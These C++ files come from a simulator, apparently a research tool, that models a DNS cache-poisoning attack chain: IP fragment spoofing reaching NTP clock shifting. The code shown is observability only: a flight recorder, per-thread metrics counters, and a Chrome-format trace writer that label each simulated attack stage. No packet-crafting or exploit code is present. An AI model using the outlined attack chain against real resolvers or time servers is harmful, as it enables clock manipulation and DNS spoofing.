                (addr >> 16) & 0xFF, (addr >> 8) & 0xFF, addr & 0xFF);
}

}  // namespace

const char* to_string(ProvKind k) {
  switch (k) {
    case ProvKind::kPhase: return "phase";
    case ProvKind::kPmtuReduced: return "pmtu-reduced";
    case ProvKind::kSpoofedInject: return "spoofed-inject";
    case ProvKind::kReasmSpoofed: return "reassembled-spoofed";
    case ProvKind::kCachePoisoned: return "cache-poisoned";
    case ProvKind::kPoisonedServed: return "poisoned-served";
    case ProvKind::kPeerSteered: return "peer-steered";
    case ProvKind::kReasmComplete: return "reassembled";
    case ProvKind::kCacheInsert: return "cache-insert";
    case ProvKind::kPeerAdopted: return "peer-adopted";
    case ProvKind::kPeerSelected: return "peer-selected";
    case ProvKind::kError: return "error";
  }
  return "?";
}

const char* to_string(ChainStage s) {
  switch (s) {
    case ChainStage::kPmtuReduced: return "pmtu-reduced";
    case ChainStage::kSpoofedInject: return "spoofed-fragments-injected";
    case ChainStage::kReasmSpoofed: return "reassembled-with-spoofed";
    case ChainStage::kCachePoisoned: return "cache-poisoned";
    case ChainStage::kPoisonedServed: return "poisoned-answer-served";
    case ChainStage::kPeerSteered: return "ntp-peer-steered";
    case ChainStage::kClockShifted: return "clock-shifted";
  }
  return "?";
}

ScopedFlightRecorder::ScopedFlightRecorder(FlightRecorder* recorder)
    : previous_(detail::tls_flight) {
  detail::tls_flight = recorder;
}

ScopedFlightRecorder::~ScopedFlightRecorder() {
  detail::tls_flight = previous_;
}

void FlightRecorder::set_meta(std::string scenario, u64 campaign_seed,
                              u32 trial, u64 trial_seed) {
  scenario_ = std::move(scenario);
  campaign_seed_ = campaign_seed;
  trial_ = trial;
  trial_seed_ = trial_seed;
  has_meta_ = true;
  prov_state_ = mix_seed(trial_seed, kProvStreamSalt);
  if (prov_state_ == 0) prov_state_ = kProvStreamSalt;  // xorshift needs != 0
}

void FlightRecorder::add_tainted(u32 addr) {
  if (!is_tainted(addr)) tainted_.push_back(addr);
}

bool FlightRecorder::is_tainted(u32 addr) const {
  return std::find(tainted_.begin(), tainted_.end(), addr) != tainted_.end();
}

const FlightRecorder::Event& FlightRecorder::record(
    ProvKind kind, i64 ts_ns, OriginModule module, u8 flags, u32 ref_seq,
    u64 a, u64 b, const char* detail) {
  if (ring_.empty()) ring_.resize(kRingCapacity);
  Event& e = ring_[head_];
  head_ = (head_ + 1) % kRingCapacity;
  if (count_ == kRingCapacity) {
    overwritten_++;
  } else {
    count_++;
  }
  next_event_seq_++;
  last_ts_ns_ = ts_ns;
  e.ts_ns = ts_ns;
  e.a = a;
  e.b = b;
  e.seq = next_event_seq_;
  e.ref_seq = ref_seq;
  e.kind = kind;
  e.module = module;
  e.flags = flags;
  // Bounded copy-with-truncation by hand: snprintf's format parsing costs
  // ~100ns per call, which the reassembly hot path cannot afford inside
  // the <=2% overhead budget.
  std::memset(e.detail, 0, sizeof e.detail);
  if (detail != nullptr) {
    for (std::size_t n = 0; n + 1 < sizeof e.detail && detail[n] != '\0';
         ++n) {
      e.detail[n] = detail[n];
    }
  }
  return e;
}

void FlightRecorder::note_chain(ChainStage stage, const Event& e) {
  ChainPoint& cp = chain_[static_cast<std::size_t>(stage)];
  cp.count++;
  if (cp.count == 1) {
    cp.first_ts_ns = e.ts_ns;
    cp.first_seq = e.seq;
    cp.first_ref_seq = e.ref_seq;
    std::snprintf(cp.detail, sizeof cp.detail, "%s", e.detail);
  }
}

void FlightRecorder::phase(i64 ts_ns, const char* name) {
  record(ProvKind::kPhase, ts_ns, OriginModule::kUnknown, 0, 0, 0, 0, name);
}

void FlightRecorder::pmtu_reduced(i64 ts_ns, OriginModule module, u16 mtu,
                                  u32 dst_addr) {
  char detail[kDetailCapacity];
  format_addr(detail, sizeof detail, dst_addr);
  note_chain(ChainStage::kPmtuReduced,
             record(ProvKind::kPmtuReduced, ts_ns, module, 0, 0, mtu,
                    dst_addr, detail));
}

void FlightRecorder::spoofed_inject(i64 ts_ns, const Origin& o, u16 ipid,
                                    u16 offset_units) {
  note_chain(ChainStage::kSpoofedInject,
             record(ProvKind::kSpoofedInject, ts_ns, o.module, o.flags, o.seq,
                    ipid, offset_units, ""));
}

void FlightRecorder::reassembled(i64 ts_ns, const Origin& merged, u64 bytes,
                                 u64 parts) {
  const bool spoofed = merged.spoofed();
  const Event& e =
      record(spoofed ? ProvKind::kReasmSpoofed : ProvKind::kReasmComplete,
             ts_ns, merged.module, merged.flags, merged.seq, bytes, parts, "");
  if (spoofed) note_chain(ChainStage::kReasmSpoofed, e);
}

void FlightRecorder::cache_insert(i64 ts_ns, const Origin& o,
                                  const char* name) {
  const bool spoofed = o.spoofed();
  const Event& e =
      record(spoofed ? ProvKind::kCachePoisoned : ProvKind::kCacheInsert,
             ts_ns, o.module, o.flags, o.seq, 0, 0, name);
  if (spoofed) note_chain(ChainStage::kCachePoisoned, e);
}

void FlightRecorder::poisoned_served(i64 ts_ns, const Origin& entry_origin,
                                     const char* name) {
  note_chain(ChainStage::kPoisonedServed,
             record(ProvKind::kPoisonedServed, ts_ns, entry_origin.module,
                    entry_origin.flags, entry_origin.seq, 0, 0, name));
}

void FlightRecorder::peer_adopted(i64 ts_ns, OriginModule module, u32 addr) {
  const bool tainted = is_tainted(addr);
  char detail[kDetailCapacity];
  format_addr(detail, sizeof detail, addr);
  const Event& e = record(ProvKind::kPeerAdopted, ts_ns, module,
                          tainted ? Origin::kSpoofed : u8{0}, 0, addr, 0,
                          detail);
  if (tainted) note_chain(ChainStage::kPeerSteered, e);
}

void FlightRecorder::peer_selected(i64 ts_ns, OriginModule module, u32 addr) {
  const bool tainted = is_tainted(addr);
  char detail[kDetailCapacity];
  format_addr(detail, sizeof detail, addr);
  const Event& e = record(ProvKind::kPeerSelected, ts_ns, module,
                          tainted ? Origin::kSpoofed : u8{0}, 0, addr, 0,
                          detail);
  if (tainted) note_chain(ChainStage::kPeerSteered, e);
}

void FlightRecorder::error(const std::string& message) {
  record(ProvKind::kError, last_ts_ns_, OriginModule::kUnknown, 0, 0, 0, 0,
         message.c_str());
}

namespace {

/// Count for stage `i`, treating the final clock-shifted stage as decided
/// by the trial outcome.
u64 stage_count(const FlightRecorder& fr, std::size_t i, bool success) {
  if (static_cast<ChainStage>(i) == ChainStage::kClockShifted) {
    return success ? 1 : 0;
  }
  return fr.chain(static_cast<ChainStage>(i)).count;
}

/// Longest contiguous prefix of satisfied stages; -1 when even the first
/// stage never happened.
int reached_index(const FlightRecorder& fr, bool success) {
  int reached = -1;
  for (std::size_t i = 0; i < kChainStageCount; ++i) {
    if (stage_count(fr, i, success) == 0) break;
    reached = static_cast<int>(i);
  }
  return reached;
}

}  // namespace

const char* FlightRecorder::chain_reached(bool success) const {
  const int r = reached_index(*this, success);
  if (r < 0) return nullptr;
  return obs::to_string(static_cast<ChainStage>(r));
}

const char* FlightRecorder::chain_broke_at(bool success) const {
  const int r = reached_index(*this, success);
  const std::size_t next = static_cast<std::size_t>(r + 1);
  if (next >= kChainStageCount) return nullptr;
  return obs::to_string(static_cast<ChainStage>(next));
}

std::vector<FlightRecorder::Event> FlightRecorder::events_in_order() const {
  std::vector<Event> out;
  out.reserve(count_);
  const std::size_t start =
      count_ == kRingCapacity ? head_ : std::size_t{0};
  for (std::size_t i = 0; i < count_; ++i) {
    out.push_back(ring_[(start + i) % kRingCapacity]);
  }
  return out;
}

std::string FlightRecorder::to_json(const DumpContext& ctx) const {
  std::string out = "{\"narrative\":{";
  if (has_meta_) {
    out += "\"scenario\":\"";
    append_escaped(out, scenario_.c_str());
    out += "\",\"campaign_seed\":" + std::to_string(campaign_seed_);
    out += ",\"trial\":" + std::to_string(trial_);
    out += ",\"trial_seed\":" + std::to_string(trial_seed_);
    out += ",";
  }
  out += "\"result\":";
  if (ctx.has_result) {
    out += "{\"success\":";
    out += ctx.success ? "true" : "false";
    out += ",\"duration_s\":";
    append_double(out, ctx.duration_s);
    out += ",\"clock_shift_s\":";
    append_double(out, ctx.clock_shift_s);
    out += ",\"error\":\"";
    append_escaped(out, ctx.error.c_str());
    out += "\"}";
  } else {
    out += "null";
  }

  const bool success = ctx.has_result && ctx.success;
  out += ",\"chain\":{\"reached\":";
  if (const char* r = chain_reached(success)) {
    out += '"';
    out += r;
    out += '"';
  } else {
    out += "null";
  }
  out += ",\"broke_at\":";
  if (const char* b = chain_broke_at(success)) {
    out += '"';
    out += b;
    out += '"';
  } else {
    out += "null";
  }
  out += ",\"stages\":[";
  for (std::size_t i = 0; i < kChainStageCount; ++i) {
    if (i != 0) out += ',';
    const auto stage = static_cast<ChainStage>(i);
    const u64 n = stage_count(*this, i, success);
    out += "{\"stage\":\"";
    out += obs::to_string(stage);
    out += "\",\"count\":" + std::to_string(n);
    if (stage != ChainStage::kClockShifted && n > 0) {
      const ChainPoint& cp = chain(stage);
      out += ",\"first_ts\":";
      append_ts(out, cp.first_ts_ns);
      out += ",\"first_event\":" + std::to_string(cp.first_seq);
      if (cp.first_ref_seq != 0) {
        out += ",\"first_packet\":" + std::to_string(cp.first_ref_seq);
      }
      if (cp.detail[0] != '\0') {
        out += ",\"detail\":\"";
        append_escaped(out, cp.detail);
        out += '"';
      }
    }
    out += '}';
  }
  out += "]}";

  out += ",\"ring\":{\"capacity\":" + std::to_string(kRingCapacity);
  out += ",\"recorded\":" + std::to_string(next_event_seq_);
  out += ",\"held\":" + std::to_string(count_);
  out += ",\"overwritten\":" + std::to_string(overwritten_);
  out += ",\"stamps\":" + std::to_string(stamps_) + "}";

  out += ",\"events\":[";
  const std::vector<Event> events = events_in_order();
  for (std::size_t i = 0; i < events.size(); ++i) {
    const Event& e = events[i];
    if (i != 0) out += ',';
    out += "{\"n\":" + std::to_string(e.seq);
    out += ",\"ts\":";
    append_ts(out, e.ts_ns);
    out += ",\"kind\":\"";
    out += obs::to_string(e.kind);
    out += "\",\"module\":\"";
    out += dnstime::to_string(e.module);
    out += '"';
    if ((e.flags & Origin::kSpoofed) != 0) out += ",\"spoofed\":true";
    if ((e.flags & Origin::kReassembled) != 0) out += ",\"reassembled\":true";
    if (e.ref_seq != 0) out += ",\"packet\":" + std::to_string(e.ref_seq);
    if (e.a != 0) out += ",\"a\":" + std::to_string(e.a);
    if (e.b != 0) out += ",\"b\":" + std::to_string(e.b);
    if (e.detail[0] != '\0') {
      out += ",\"detail\":\"";
      append_escaped(out, e.detail);
      out += '"';
    }
    out += '}';
  }
  out += "]}}";
  return out;
}

}  // namespace dnstime::obs
