// Process-wide metrics registry: cheap counters and log2-bucket histograms,
// sharded per thread so the hot path never contends.
//
// Design rules (see src/obs/README.md for the full contract):
//  * Recording is zero-allocation after the first touch of a (thread, tag)
//    pair: a macro site resolves its tag to a stable id once (function-local
//    static), then every hit is one relaxed read-modify-write on a cell that
//    only the owning thread writes. No lock, no fetch_add, no branch on a
//    sink being attached.
//  * Cells are std::atomic<u64> written single-writer: the owner updates
//    with relaxed load+store (compiles to plain add on x86/ARM), readers
//    snapshot with relaxed loads. Exact totals require writer quiescence
//    (snapshot after joining workers); mid-run snapshots are torn-free but
//    may lag.
//  * Counter totals are additive and histogram merges are order-independent,
//    so a quiescent snapshot is identical at any thread count — metrics for
//    a deterministic campaign are themselves deterministic, except for tags
//    that record wall-clock time (named *_us / *_wall by convention).
//  * DNSTIME_OBS=0 (cmake -DDNSTIME_OBS=OFF) compiles every macro to a
//    no-op; the registry types remain so cold-path callers need no guards.
//
// Hot components (EventLoop, NetStack, Resolver, BufferPool) do NOT call
// these macros per event: they keep plain member counters and fold them into
// the registry once, in their destructors, via DNSTIME_COUNT_ADD. That keeps
// the per-packet cost to a plain increment and is how the repo's <=2% bench
// overhead budget is met.
#pragma once

#include <array>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "common/types.h"

#ifndef DNSTIME_OBS
#define DNSTIME_OBS 1
#endif

namespace dnstime::obs {

/// Merged histogram state: count/sum/min/max plus log2 buckets (bucket i
/// holds values whose bit width is i; value 0 lands in bucket 0).
struct HistogramData {
  u64 count = 0;
  u64 sum = 0;
  u64 min = ~u64{0};  ///< meaningful only when count > 0
  u64 max = 0;
  std::array<u64, 64> buckets{};

  void merge(const HistogramData& o);
};

/// Point-in-time merge of every shard, name-sorted so rendering is
/// deterministic.
struct Snapshot {
  std::vector<std::pair<std::string, u64>> counters;
  std::vector<std::pair<std::string, HistogramData>> histograms;

  /// Value of a counter, 0 when absent (test/assertion helper).
  [[nodiscard]] u64 counter(std::string_view name) const;
  /// Histogram by name, nullptr when absent.
  [[nodiscard]] const HistogramData* histogram(std::string_view name) const;

  /// `{"counters":{...},"histograms":{...}}` — stable key order (sorted),
  /// buckets rendered sparsely as {"<bit>":count}.
  [[nodiscard]] std::string to_json() const;
  /// Human-readable rendering for table reports.
  [[nodiscard]] std::string to_table() const;
};

/// The process-wide registry. Use through the DNSTIME_COUNT / DNSTIME_HIST
/// macros; direct calls are for cold paths that loop over dynamic tags.
class Registry {
 public:
  using Id = u32;

  /// Leaked singleton: worker threads fold their shards into it at thread
  /// exit, which may happen after static destruction would have run.
  static Registry& instance();

  /// Resolve (registering on first use) a tag. Takes a mutex; call once per
  /// site and cache the id. Tags are interned — the same string always maps
  /// to the same id, across threads.
  Id counter_id(std::string_view name);
  Id histogram_id(std::string_view name);

  /// Hot path: bump the calling thread's cell for `id` by `n`.
  void add(Id id, u64 n);
  /// Hot path: record one sample into the calling thread's histogram cells.
  void record(Id id, u64 value);

  /// Merge retired shards + all live shards. Exact when writers are
  /// quiescent; torn-free (but possibly lagging) otherwise.
  [[nodiscard]] Snapshot snapshot();

  /// Zero every cell, live and retired. Test helper; requires quiescence.
  void reset();

  /// Implementation detail (public so counters.cpp's file-local helpers
  /// can name it; not part of the API).
  struct Impl;

 private:
  Registry() = default;
  Impl& impl();
};

}  // namespace dnstime::obs

#if DNSTIME_OBS

/// Bump counter `tag` by 1. `tag` must be a constant expression convertible
/// to std::string_view; the id lookup happens once per call site.
#define DNSTIME_COUNT(tag) DNSTIME_COUNT_ADD(tag, 1)

/// Bump counter `tag` by `n` (the dtor-export form hot components use).
#define DNSTIME_COUNT_ADD(tag, n)                                         \
  do {                                                                    \
    static const ::dnstime::obs::Registry::Id dnstime_obs_id_ =           \
        ::dnstime::obs::Registry::instance().counter_id(tag);             \
    ::dnstime::obs::Registry::instance().add(                             \
        dnstime_obs_id_, static_cast<::dnstime::u64>(n));                 \
  } while (0)

/// Record sample `v` into histogram `tag`.
#define DNSTIME_HIST(tag, v)                                              \
  do {                                                                    \
    static const ::dnstime::obs::Registry::Id dnstime_obs_id_ =           \
        ::dnstime::obs::Registry::instance().histogram_id(tag);           \
    ::dnstime::obs::Registry::instance().record(                          \
        dnstime_obs_id_, static_cast<::dnstime::u64>(v));                 \
  } while (0)

#else  // !DNSTIME_OBS

#define DNSTIME_COUNT(tag) ((void)0)
#define DNSTIME_COUNT_ADD(tag, n) ((void)0)
#define DNSTIME_HIST(tag, v) ((void)0)

#endif  // DNSTIME_OBS
