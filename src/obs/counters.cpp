#include "obs/counters.h"

#include <algorithm>
#include <atomic>
#include <bit>
#include <cstdio>
#include <map>
#include <mutex>

namespace dnstime::obs {
namespace {

/// Log2 bucket of a sample: floor(log2(v)) for v > 0, bucket 0 for v == 0.
std::size_t bucket_of(u64 v) {
  return v == 0 ? 0 : static_cast<std::size_t>(std::bit_width(v)) - 1;
}

/// Cells a histogram occupies in the shard cell space:
/// [count, sum, min, max, bucket 0 .. bucket 63].
constexpr u32 kHistCells = 4 + 64;

}  // namespace

void HistogramData::merge(const HistogramData& o) {
  if (o.count == 0) return;
  count += o.count;
  sum += o.sum;
  min = std::min(min, o.min);
  max = std::max(max, o.max);
  for (std::size_t i = 0; i < buckets.size(); ++i) buckets[i] += o.buckets[i];
}

// ---------------------------------------------------------------------------
// Registry internals

struct Registry::Impl {
  /// Per-thread cell store. Chunks are allocated by the owning thread only
  /// and published with a release store; snapshot readers load acquire, so
  /// a mid-run snapshot never observes a half-constructed chunk. The chunk
  /// pointer array is fixed-size precisely so growth never moves memory a
  /// reader might be walking.
  struct Shard {
    static constexpr std::size_t kChunkSize = 256;
    static constexpr std::size_t kMaxChunks = 64;  // 16384 cells
    struct Chunk {
      std::array<std::atomic<u64>, kChunkSize> cells{};
    };
    std::array<std::atomic<Chunk*>, kMaxChunks> chunks{};

    ~Shard() {
      for (auto& c : chunks) delete c.load(std::memory_order_relaxed);
    }

    /// Owner-thread cell accessor (allocates the chunk on first touch).
    std::atomic<u64>& cell(u32 id) {
      const std::size_t ci = id / kChunkSize;
      Chunk* c = chunks[ci].load(std::memory_order_relaxed);
      if (c == nullptr) {
        c = new Chunk();
        chunks[ci].store(c, std::memory_order_release);
      }
      return c->cells[id % kChunkSize];
    }

    /// Reader-side value of a cell (0 when its chunk was never touched).
    [[nodiscard]] u64 read(u32 id) const {
      const Chunk* c = chunks[id / kChunkSize].load(std::memory_order_acquire);
      return c == nullptr
                 ? 0
                 : c->cells[id % kChunkSize].load(std::memory_order_relaxed);
    }

    /// Owner-only single-writer bump: relaxed load+store compiles to a
    /// plain add, with atomics making concurrent snapshot reads defined.
    void bump(u32 id, u64 n) {
      std::atomic<u64>& c = cell(id);
      c.store(c.load(std::memory_order_relaxed) + n,
              std::memory_order_relaxed);
    }

    void store(u32 id, u64 v) {
      cell(id).store(v, std::memory_order_relaxed);
    }
  };

  std::mutex mutex;
  // Sorted maps double as the deterministic iteration order of snapshot().
  std::map<std::string, Id, std::less<>> counters;
  std::map<std::string, Id, std::less<>> histograms;
  u32 next_cell = 0;
  std::vector<Shard*> live;
  std::vector<u64> retired;  ///< folded cells of exited threads
};

namespace {

/// Registers the calling thread's shard on first use and folds it into the
/// retired accumulator when the thread exits.
struct ShardHandle {
  Registry::Impl* impl;
  Registry::Impl::Shard* shard;

  explicit ShardHandle(Registry::Impl& i)
      : impl(&i), shard(new Registry::Impl::Shard) {
    std::lock_guard<std::mutex> lock(impl->mutex);
    impl->live.push_back(shard);
  }
  ~ShardHandle() {
    std::lock_guard<std::mutex> lock(impl->mutex);
    retire(*impl, *shard);
    auto it = std::find(impl->live.begin(), impl->live.end(), shard);
    if (it != impl->live.end()) impl->live.erase(it);
    delete shard;
  }

  static void retire(Registry::Impl& impl, const Registry::Impl::Shard& s);
};

}  // namespace

Registry& Registry::instance() {
  // Leaked: thread_local shard handles fold into it at thread exit, which
  // can outlive any static-destruction order.
  static Registry* const g = new Registry;
  return *g;
}

Registry::Impl& Registry::impl() {
  static Impl* const g = new Impl;
  return *g;
}

Registry::Id Registry::counter_id(std::string_view name) {
  Impl& im = impl();
  std::lock_guard<std::mutex> lock(im.mutex);
  auto it = im.counters.find(name);
  if (it != im.counters.end()) return it->second;
  const Id id = im.next_cell;
  im.next_cell += 1;
  im.counters.emplace(std::string(name), id);
  return id;
}

Registry::Id Registry::histogram_id(std::string_view name) {
  Impl& im = impl();
  std::lock_guard<std::mutex> lock(im.mutex);
  auto it = im.histograms.find(name);
  if (it != im.histograms.end()) return it->second;
  const Id id = im.next_cell;
  im.next_cell += kHistCells;
  im.histograms.emplace(std::string(name), id);
  return id;
}

namespace {

Registry::Impl::Shard& local_shard(Registry::Impl& im) {
  thread_local ShardHandle handle(im);
  return *handle.shard;
}

/// Histogram cell layout helpers (base = histogram_id).
enum : u32 { kHCount = 0, kHSum = 1, kHMin = 2, kHMax = 3, kHBuckets = 4 };

HistogramData read_histogram(const Registry::Impl::Shard& s, u32 base) {
  HistogramData h;
  h.count = s.read(base + kHCount);
  if (h.count == 0) return h;
  h.sum = s.read(base + kHSum);
  h.min = s.read(base + kHMin);
  h.max = s.read(base + kHMax);
  for (u32 b = 0; b < 64; ++b) h.buckets[b] = s.read(base + kHBuckets + b);
  return h;
}

HistogramData read_retired_histogram(const std::vector<u64>& cells, u32 base) {
  HistogramData h;
  if (cells.size() < base + kHistCells) return h;
  h.count = cells[base + kHCount];
  if (h.count == 0) return h;
  h.sum = cells[base + kHSum];
  h.min = cells[base + kHMin];
  h.max = cells[base + kHMax];
  for (u32 b = 0; b < 64; ++b) h.buckets[b] = cells[base + kHBuckets + b];
  return h;
}

void write_retired_histogram(std::vector<u64>& cells, u32 base,
                             const HistogramData& h) {
  cells[base + kHCount] = h.count;
  cells[base + kHSum] = h.sum;
  cells[base + kHMin] = h.count == 0 ? 0 : h.min;
  cells[base + kHMax] = h.max;
  for (u32 b = 0; b < 64; ++b) cells[base + kHBuckets + b] = h.buckets[b];
}

}  // namespace

void ShardHandle::retire(Registry::Impl& im, const Registry::Impl::Shard& s) {
  // Caller holds im.mutex. Counters sum; histograms merge (their min cell
  // is not additive).
  if (im.retired.size() < im.next_cell) im.retired.resize(im.next_cell, 0);
  for (const auto& [name, id] : im.counters) {
    im.retired[id] += s.read(id);
  }
  for (const auto& [name, base] : im.histograms) {
    HistogramData merged = read_retired_histogram(im.retired, base);
    merged.merge(read_histogram(s, base));
    write_retired_histogram(im.retired, base, merged);
  }
}

void Registry::add(Id id, u64 n) {
  if (n == 0) return;
  local_shard(impl()).bump(id, n);
}

void Registry::record(Id id, u64 value) {
  Impl::Shard& s = local_shard(impl());
  const u64 count = s.read(id + kHCount);
  if (count == 0 || value < s.read(id + kHMin)) s.store(id + kHMin, value);
  if (value > s.read(id + kHMax)) s.store(id + kHMax, value);
  s.bump(id + kHCount, 1);
  s.bump(id + kHSum, value);
  s.bump(id + kHBuckets + static_cast<u32>(bucket_of(value)), 1);
}

Snapshot Registry::snapshot() {
  Impl& im = impl();
  std::lock_guard<std::mutex> lock(im.mutex);
  Snapshot snap;
  snap.counters.reserve(im.counters.size());
  for (const auto& [name, id] : im.counters) {
    u64 total = id < im.retired.size() ? im.retired[id] : 0;
    for (const Impl::Shard* s : im.live) total += s->read(id);
    snap.counters.emplace_back(name, total);
  }
  snap.histograms.reserve(im.histograms.size());
  for (const auto& [name, base] : im.histograms) {
    HistogramData merged = read_retired_histogram(im.retired, base);
    for (const Impl::Shard* s : im.live) merged.merge(read_histogram(*s, base));
    snap.histograms.emplace_back(name, merged);
  }
  return snap;
}

void Registry::reset() {
  Impl& im = impl();
  std::lock_guard<std::mutex> lock(im.mutex);
  std::fill(im.retired.begin(), im.retired.end(), 0);
  for (Impl::Shard* s : im.live) {
    for (u32 id = 0; id < im.next_cell; ++id) {
      const auto ci = id / Impl::Shard::kChunkSize;
      if (s->chunks[ci].load(std::memory_order_acquire) == nullptr) continue;
      s->cell(id).store(0, std::memory_order_relaxed);
    }
  }
}

// ---------------------------------------------------------------------------
// Snapshot rendering

u64 Snapshot::counter(std::string_view name) const {
  for (const auto& [n, v] : counters) {
    if (n == name) return v;
  }
  return 0;
}

const HistogramData* Snapshot::histogram(std::string_view name) const {
  for (const auto& [n, h] : histograms) {
    if (n == name) return &h;
  }
  return nullptr;
}

std::string Snapshot::to_json() const {
  std::string out = "{\"counters\":{";
  bool first = true;
  for (const auto& [name, value] : counters) {
    if (!first) out += ",";
    first = false;
    out += "\"" + name + "\":" + std::to_string(value);
  }
  out += "},\"histograms\":{";
  first = true;
  for (const auto& [name, h] : histograms) {
    if (!first) out += ",";
    first = false;
    out += "\"" + name + "\":{\"count\":" + std::to_string(h.count);
    out += ",\"sum\":" + std::to_string(h.sum);
    out += ",\"min\":" + std::to_string(h.count == 0 ? 0 : h.min);
    out += ",\"max\":" + std::to_string(h.max);
    out += ",\"buckets\":{";
    bool first_bucket = true;
    for (std::size_t b = 0; b < h.buckets.size(); ++b) {
      if (h.buckets[b] == 0) continue;
      if (!first_bucket) out += ",";
      first_bucket = false;
      out += "\"" + std::to_string(b) + "\":" + std::to_string(h.buckets[b]);
    }
    out += "}}";
  }
  out += "}}";
  return out;
}

std::string Snapshot::to_table() const {
  std::string out;
  char line[192];
  if (!counters.empty()) {
    out += "  counters\n";
    for (const auto& [name, value] : counters) {
      std::snprintf(line, sizeof line, "    %-40s %16llu\n", name.c_str(),
                    static_cast<unsigned long long>(value));
      out += line;
    }
  }
  if (!histograms.empty()) {
    out += "  histograms\n";
    for (const auto& [name, h] : histograms) {
      std::snprintf(line, sizeof line,
                    "    %-40s count=%llu sum=%llu min=%llu max=%llu\n",
                    name.c_str(), static_cast<unsigned long long>(h.count),
                    static_cast<unsigned long long>(h.sum),
                    static_cast<unsigned long long>(h.count == 0 ? 0 : h.min),
                    static_cast<unsigned long long>(h.max));
      out += line;
    }
  }
  return out;
}

}  // namespace dnstime::obs
