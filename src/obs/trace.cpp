#include "obs/trace.h"

#include "obs/json_util.h"

namespace dnstime::obs {
namespace {

thread_local TraceRecorder* tls_trace = nullptr;

}  // namespace

TraceRecorder* current_trace() { return tls_trace; }

ScopedTrace::ScopedTrace(TraceRecorder* recorder) : previous_(tls_trace) {
  tls_trace = recorder;
}

ScopedTrace::~ScopedTrace() { tls_trace = previous_; }

void TraceRecorder::set_meta(std::string scenario, u64 seed, u32 trial) {
  scenario_ = std::move(scenario);
  seed_ = seed;
  trial_ = trial;
  has_meta_ = true;
}

void TraceRecorder::push(i64 ts_ns, const char* cat, const char* name,
                         Phase phase, u64 value, bool has_value) {
  if (events_.size() >= kMaxEvents) {
    dropped_++;
    return;
  }
  if (events_.empty()) events_.reserve(1024);
  events_.push_back(Event{cat, name, ts_ns, value, phase, has_value});
}

std::string TraceRecorder::to_json() const {
  std::string out = "{\"displayTimeUnit\":\"ms\",\"otherData\":{";
  if (has_meta_) {
    out += "\"scenario\":\"";
    append_escaped(out, scenario_.c_str());
    out += "\",\"seed\":" + std::to_string(seed_);
    out += ",\"trial\":" + std::to_string(trial_);
    out += ",";
  }
  out += "\"clock\":\"sim\",\"dropped_events\":" + std::to_string(dropped_);
  out += "},\"traceEvents\":[";
  bool first = true;
  for (const Event& e : events_) {
    if (!first) out += ",";
    first = false;
    out += "{\"name\":\"";
    append_escaped(out, e.name);
    out += "\",\"cat\":\"";
    append_escaped(out, e.cat);
    out += "\",\"ph\":\"";
    switch (e.phase) {
      case Phase::kBegin:
        out += 'B';
        break;
      case Phase::kEnd:
        out += 'E';
        break;
      case Phase::kInstant:
        out += 'i';
        break;
    }
    out += "\",\"ts\":";
    append_ts(out, e.ts_ns);
    out += ",\"pid\":1,\"tid\":1";
    if (e.phase == Phase::kInstant) out += ",\"s\":\"t\"";
    if (e.has_value) out += ",\"args\":{\"value\":" + std::to_string(e.value) + "}";
    out += "}";
  }
  out += "]}";
  return out;
}

}  // namespace dnstime::obs
