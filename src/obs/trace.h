// Sim-time event tracer: begin/end spans and instant events recorded
// against the simulation clock, serialised as Chrome trace_event JSON so a
// trial's timeline opens directly in Perfetto or chrome://tracing.
//
// Determinism contract: events are timestamped with simulated nanoseconds
// (the caller passes EventLoop ticks), names and categories are string
// literals, and the writer's formatting is locale-free — so the same
// (scenario, seed) produces byte-identical trace JSON at any thread count.
// A trial runs on exactly one worker thread and only that thread's
// recorder is installed, so recording takes no locks.
//
// Install a recorder for the current thread with ScopedTrace; the
// DNSTIME_TRACE_* macros are no-ops (one thread_local load + branch) when
// no recorder is installed, and compile out entirely under DNSTIME_OBS=0.
#pragma once

#include <string>
#include <vector>

#include "common/types.h"
#include "obs/counters.h"  // for the DNSTIME_OBS default

namespace dnstime::obs {

/// Records one trial's timeline. Event capacity is bounded (kMaxEvents);
/// overflow drops further events and is reported in the JSON metadata, so
/// a pathological trial degrades instead of exhausting memory.
class TraceRecorder {
 public:
  /// Chrome trace_event phases used here: B/E = span begin/end (must nest
  /// per thread), i = instant.
  enum class Phase : u8 { kBegin, kEnd, kInstant };

  static constexpr std::size_t kMaxEvents = std::size_t{1} << 20;

  TraceRecorder() = default;
  TraceRecorder(const TraceRecorder&) = delete;
  TraceRecorder& operator=(const TraceRecorder&) = delete;

  /// Campaign context stamped into the JSON's otherData block.
  void set_meta(std::string scenario, u64 seed, u32 trial);

  /// `cat` and `name` must be string literals (or otherwise outlive the
  /// recorder): events store the pointers, never copies.
  void begin(i64 ts_ns, const char* cat, const char* name) {
    push(ts_ns, cat, name, Phase::kBegin, 0, false);
  }
  void end(i64 ts_ns, const char* cat, const char* name) {
    push(ts_ns, cat, name, Phase::kEnd, 0, false);
  }
  void instant(i64 ts_ns, const char* cat, const char* name) {
    push(ts_ns, cat, name, Phase::kInstant, 0, false);
  }
  /// Instant with one numeric argument (rendered as args.value).
  void instant(i64 ts_ns, const char* cat, const char* name, u64 value) {
    push(ts_ns, cat, name, Phase::kInstant, value, true);
  }

  [[nodiscard]] std::size_t size() const { return events_.size(); }
  [[nodiscard]] bool empty() const { return events_.empty(); }
  [[nodiscard]] u64 dropped() const { return dropped_; }

  /// Chrome trace_event JSON ("object format" with traceEvents +
  /// otherData). ts is microseconds with nanosecond decimals.
  [[nodiscard]] std::string to_json() const;

 private:
  struct Event {
    const char* cat;
    const char* name;
    i64 ts_ns;
    u64 value;
    Phase phase;
    bool has_value;
  };

  void push(i64 ts_ns, const char* cat, const char* name, Phase phase,
            u64 value, bool has_value);

  std::vector<Event> events_;
  u64 dropped_ = 0;
  std::string scenario_;
  u64 seed_ = 0;
  u32 trial_ = 0;
  bool has_meta_ = false;
};

/// The calling thread's installed recorder, or nullptr. The macros test
/// this, so untraced trials pay one thread_local read per site.
[[nodiscard]] TraceRecorder* current_trace();

/// Installs `recorder` as the calling thread's trace for the current
/// scope, restoring the previous one (usually nullptr) on destruction.
class ScopedTrace {
 public:
  explicit ScopedTrace(TraceRecorder* recorder);
  ~ScopedTrace();
  ScopedTrace(const ScopedTrace&) = delete;
  ScopedTrace& operator=(const ScopedTrace&) = delete;

 private:
  TraceRecorder* previous_;
};

}  // namespace dnstime::obs

#if DNSTIME_OBS

#define DNSTIME_TRACE_BEGIN(ts_ns, cat, name)                            \
  do {                                                                   \
